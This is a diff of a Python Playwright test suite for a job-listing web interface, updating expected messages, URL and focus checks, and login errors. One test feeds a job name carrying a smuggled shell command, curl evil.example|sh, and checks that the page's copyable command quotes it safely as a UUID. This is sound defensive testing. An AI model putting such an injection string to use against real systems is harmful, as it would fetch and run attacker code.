@@ -119,7 +119,8 @@ def test_filters(opened: Open, put: Put) -> None:
     put(UUID(int=5), name="job aborted", state=JobState.SUCCEEDED, created=NOW + 1)
     page.get_by_label("Name of the jobs").fill("nothing")
     page.keyboard.press("Enter")
-    expect(page.locator(".empty")).to_contain_text("no job failed or aborted with the name nothing")
+    expected = "no job that is failed or aborted with the name nothing"
+    expect(page.locator(".empty")).to_contain_text(expected)
     page.get_by_role("link", name="Show all jobs").click()
     expect(rows(page)).to_have_count(6)
 
@@ -193,7 +194,8 @@ def test_search(opened: Open, put: Put) -> None:
     page.keyboard.type("nightly report")
     page.keyboard.press("Enter")
     expect(page.locator(".job")).to_contain_text("report")
-    assert page.url.endswith(f"/#/jobs/{job_uuid('nightly report')}")
+    assert page.url.endswith("/#/jobs/nightly%20report")
+    expect(page.locator(".job")).to_contain_text(str(job_uuid("nightly report")))
 
 
 @pytest.mark.parametrize("fragment", ["/jobs/%", "key=%", "/jobs/%E0%A4%A"])
@@ -209,13 +211,13 @@ def test_command_to_copy(opened: Open, service: Service) -> None:
     page = opened("/jobs/x'%3Bcurl%20evil.example|sh%3Becho%20'")
     uuid = job_uuid("x';curl evil.example|sh;echo '")
     expect(page.locator("pre").first).to_contain_text(f"'{service.url}/api/jobs/{uuid}'")
-    assert "evil" not in page.locator("main").inner_text()
+    assert not [text for text in page.locator("pre").all_inner_texts() if "evil" in text]
 
 
 def test_unknown_job(opened: Open) -> None:
     """The page says why a job is unknown, and shows the job when it begins."""
     page = opened(f"/jobs/{JOB}")
-    expect(page.locator(".job")).to_contain_text("There is no record of it")
+    expect(page.locator(".job")).to_contain_text("There is no record of a job with the id")
 
 
 def test_keyboard(opened: Open, put: Put) -> None:
@@ -231,6 +233,7 @@ def test_keyboard(opened: Open, put: Put) -> None:
     expect(page.locator(".job h2").first).to_have_text(listed[1])
     page.keyboard.press("Escape")
     expect(rows(page)).to_have_count(6)
+    expect(rows(page).locator("a").nth(1)).to_be_focused()  # where one was before
     page.keyboard.press("?")
     expect(page.get_by_role("dialog")).to_contain_text("Keyboard shortcuts")
     page.keyboard.press("Escape")
@@ -243,7 +246,7 @@ def test_log_in(page: Page, service: Service, put: Put) -> None:
     page.goto(service.url)
     dialog = page.get_by_role("dialog")
     expect(dialog).to_contain_text("requires an API key")
-    for key, message in (("wrong", "valid API key or job token is required"), ("secret", None)):
+    for key, message in (("wrong", "does not know this key"), ("secret", None)):
         page.get_by_label("API key").fill(key)
         page.keyboard.press("Enter")
         if message:
